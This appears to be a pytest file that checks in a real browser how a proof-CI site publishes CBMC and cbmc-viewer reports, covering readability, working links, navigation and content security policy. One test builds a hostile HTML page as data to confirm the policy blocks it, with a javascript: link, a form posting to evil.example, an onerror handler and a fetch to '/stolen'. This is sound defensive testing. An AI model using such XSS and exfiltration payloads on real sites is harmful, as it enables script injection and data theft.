"""A proof's page and cbmc-viewer's own, in a real browser under the report site's policy.

`ring_push.tar.gz` is what CBMC 6.6.0 and cbmc-viewer 3.12 made of the example's `ring_push`.
"""

import io
import re
import tarfile
from pathlib import Path

import pytest

from proof_ci.model.outcome import Count
from proof_ci.model.verdicts import Verdict
from proof_ci.report import proof_document, proof_page
from proof_ci.report.archive import Archive
from proof_ci.report.evidence import Evidence, gather, keep
from proof_ci.report.places import proof_prefix
from proof_ci.report.published import Published
from proof_ci.report.publishing import JSON, object_of, put_all
from proof_ci.report.store import Page

from .conftest import LocalSite, Tabs
from .rules import CONTRAST, SIDEWAYS
from .samples import HOSTILE, OLDER_ID, RUN_ID, proof, run

RECORDED = Path(__file__).parent / "ring_push.tar.gz"
NAME = "cbmc/proofs/ring_push"
PREFIX = proof_prefix(RUN_ID, NAME)


def publish(site: LocalSite, packed: bytes) -> str:
    """Publish an archive and the page of its proof; the page's URL."""
    archive, kept, sizes = Archive(io.BytesIO(packed)), dict[str, bytes](), []
    files = list(archive.files())
    for file in files:
        keep(kept, file)
        sizes.append((file.path, len(file.content)))
    put_all(iter([object_of(PREFIX, file) for file in files]), site.put)
    counts = {"refuted": Count(1, 33), "reached": Count(11, 12)}
    why = "cbmc ended with 10 and said FAILED; expected is SUCCESSFUL"
    refuted = proof(NAME, Verdict.FAILURE, reason=why, **counts)
    published = Published(tuple(sizes), tuple(archive.left_out))
    shown = (run(refuted), refuted, published, gather(kept))
    site.put(Page(f"{PREFIX}index.json", proof_document.render(*shown).encode(), JSON))
    return site.page(f"{PREFIX}index.html", proof_page.render(*shown))


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_the_page_is_readable_everywhere(
    site: LocalSite, tabs: Tabs, shots: Path, width: int, dark: bool
) -> None:
    """On phone and desktop, light and dark: no complaint, enough contrast, nothing cut off."""
    tab = tabs.open(publish(site, RECORDED.read_bytes()), width=width, dark=dark)
    look = "dark" if dark else "light"
    tab.page.screenshot(path=shots / f"proof-{width}-{look}.png", full_page=True)
    assert tab.complaints == []
    assert tab.page.evaluate(CONTRAST) == []
    assert tab.page.evaluate(SIDEWAYS) == []


def test_every_page_can_be_reached_and_left_again(site: LocalSite, tabs: Tabs, shots: Path) -> None:
    """From the proof to the report, a trace, a source line, and back; styled, without complaint."""
    tab = tabs.open(publish(site, RECORDED.read_bytes()))
    link = tab.page.get_by_role("link")
    tab.follow(link.filter(has_text="report: coverage and traces"))
    assert "CBMC report" in tab.page.inner_text("h1")
    tab.page.screenshot(path=shots / "viewer-index.png", full_page=True)
    tab.follow(tab.page.get_by_role("link", name="trace", exact=True))
    tab.page.screenshot(path=shots / "viewer-trace.png", full_page=True)
    border = tab.page.locator(".trace").evaluate("e => getComputedStyle(e).borderTopStyle")
    assert border == "solid"
    assert "hift-click" not in tab.page.inner_text("body")
    tab.follow(tab.page.get_by_role("link", name="ring_push", exact=True).first)
    tab.page.screenshot(path=shots / "viewer-source.png", full_page=True)
    assert tab.page.url.endswith("src/padmath.c.html#32")
    assert tab.page.locator("html").get_attribute("lang") == "en"
    signs = "e => getComputedStyle(e, '::before').content"
    told = [tab.page.locator(f".line.{kind}").first.evaluate(signs) for kind in ("hit", "missed")]
    assert told == ['"✓" / "reached"', '"✗" / "not reached"']
    tab.follow(link.filter(has_text="back to the proof"))
    assert tab.page.url == f"{site.url}/{PREFIX}index.html"
    assert tab.complaints == []
    assert tab.scripts() == 0


def test_no_link_of_a_real_report_is_dead(site: LocalSite, tabs: Tabs) -> None:
    """Every relative link of every published page leads to an object."""
    publish(site, RECORDED.read_bytes())
    pages = [key for key, each in site.objects.items() if each.content_type.startswith("text/html")]
    assert len(pages) == 6
    for key in pages:
        tab = tabs.open(f"{site.url}/{key}")
        links = tab.page.eval_on_selector_all("a, link", "all => all.map(each => each.href)")
        paths = {re.sub("[?#].*", "", link) for link in links if link.startswith(site.url)}
        keys = {path.removeprefix(f"{site.url}/") for path in paths}
        assert keys - set(site.objects) <= {f"runs/{RUN_ID}/index.html"}, key
        assert tab.complaints == []
        assert tab.scripts() == 0


def test_an_unchanged_proof_leads_to_the_report_of_the_run_that_proved_it(
    site: LocalSite, tabs: Tabs
) -> None:
    """To that proof's page there, not to this one's."""
    same = proof(NAME, unchanged_since=OLDER_ID)
    html = proof_page.render(run(same), same, Published(()), Evidence())
    tab = tabs.open(site.page(f"{PREFIX}index.html", html))
    link = tab.page.get_by_role("link", name=OLDER_ID[:8])
    there = f"{site.url}/{proof_prefix(OLDER_ID, NAME)}index.html"
    assert link.evaluate("e => e.href") == there


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_that_a_stranger_made_can_do_nothing(site: LocalSite, tabs: Tabs, text: str) -> None:
    """HTML of a job that wants to run, to call or to lead away is stopped by the site's policy."""
    page = "<html><head></head><body><a id=go href='javascript:alert(1)'>go</a>"
    page += "<form action=https://evil.example><input name=a autofocus><button id=send>x</button>"
    page += f"</form><img src=/x onerror=alert(1)><script>fetch('/stolen')</script>{text}</body>"
    publish(site, archive_of({"report/html/index.html": page.encode(errors="replace")}))
    tab = tabs.open(f"{site.url}/{PREFIX}report/html/index.html", wait=50)
    for each in ("#go", "#send"):
        tab.press(tab.page.locator(each))
    assert [told for told in tab.complaints if not told.startswith("console ")] == []
    assert "/stolen" not in site.asked
    assert tab.page.url.startswith(site.url)


def archive_of(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return made.getvalue()
